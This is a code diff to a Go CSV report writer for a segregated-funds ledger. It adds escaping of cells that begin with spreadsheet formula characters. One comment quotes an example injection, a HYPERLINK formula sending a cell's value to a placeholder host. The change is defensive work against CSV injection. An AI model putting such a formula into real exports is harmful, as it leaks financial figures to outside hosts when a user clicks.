@@ -6,6 +6,7 @@ import (
 	"encoding/csv"
 	"fmt"
 	"math"
+	"strings"
 	"time"
 
 	"github.com/go-pdf/fpdf"
@@ -144,15 +145,35 @@ func ClientCells(c app.ClientLine, f func(decimal.Decimal) string) ClientCellTex
 // progressEvery is how many client lines are rendered between progress calls.
 const progressEvery = 1000
 
+// csvFormulaStarts are the first characters that make a spreadsheet read a
+// cell as a formula (OWASP "CSV injection"): = + - @, and tab and carriage
+// return, which some strip before looking.
+const csvFormulaStarts = "=+-@\t\r"
+
+// csvText is a text cell as the CSV writes it: one starting with a formula
+// character gets a leading ' so a spreadsheet shows it as text. A statement
+// id (finance's, or a camt.053's Stmt/Id) may start with any of them, and
+// =HYPERLINK("https://x.example/?"&G2,…) in the auditors' report sent a
+// figure of it elsewhere on a click. Amount cells are never passed through
+// it: "-8.75" is a number.
+func csvText(s string) string {
+	if s != "" && strings.ContainsRune(csvFormulaStarts, rune(s[0])) {
+		return "'" + s
+	}
+	return s
+}
+
 // reportCSV: a header, one line per client (amounts as decimal text with
 // the currency's minor units), then the totals, breaches and the journal
-// head as rows of their own kind.
+// head as rows of their own kind. Text cells go through csvText; the
+// amount columns (wallet to total) hold amounts but in the verdict and
+// journal head rows, whose text is the ledger's own (a verdict, a hash).
 func reportCSV(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]byte, error) {
 	var buf bytes.Buffer
 	w := csv.NewWriter(&buf)
-	asOf := r.GetAsOf().AsTime().Format(time.RFC3339Nano)
+	asOf := csvText(r.GetAsOf().AsTime().Format(time.RFC3339Nano))
 	row := func(kind, id, wallet, pending, available, inTransit, total, currency string) {
-		w.Write([]string{kind, id, wallet, pending, available, inTransit, total, currency, asOf}) // buffered: errors surface at Flush
+		w.Write([]string{csvText(kind), csvText(id), wallet, pending, available, inTransit, total, csvText(currency), asOf}) // buffered: errors surface at Flush
 	}
 	w.Write([]string{"kind", "client_id", "wallet", "pending", "available", "in_transit", "total", "currency", "as_of"})
 	for i, c := range r.Clients {
@@ -171,7 +192,7 @@ func reportCSV(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]by
 	row("summary", "bank_statement_balance", "", "", "", "", r.BankStatementBalance, r.Currency)
 	row("summary", "difference", "", "", "", "", r.Difference, r.Currency)
 	row("summary", "ledger_difference", "", "", "", "", r.LedgerDifference, r.Currency)
-	row("summary", "verdict", "", "", "", "", r.Verdict, "")
+	row("summary", "verdict", "", "", "", "", csvText(r.Verdict), "")
 	for _, st := range r.BankStatements {
 		row("bank_statement", st.StatementId, "", "", "", "", st.ClosingBalance, r.Currency)
 	}
@@ -179,7 +200,7 @@ func reportCSV(r *ledgerv1.SegregatedFundsReport, progress func(int, int)) ([]by
 	for _, b := range r.Breaches {
 		row("breach", b.TransactionId, "", "", "", "", b.Amount, b.Currency)
 	}
-	row("journal_head", fmt.Sprint(r.JournalHeadPosition), "", "", "", "", r.JournalHeadHash, "")
+	row("journal_head", fmt.Sprint(r.JournalHeadPosition), "", "", "", "", csvText(r.JournalHeadHash), "")
 	w.Flush()
 	return buf.Bytes(), w.Error()
 }
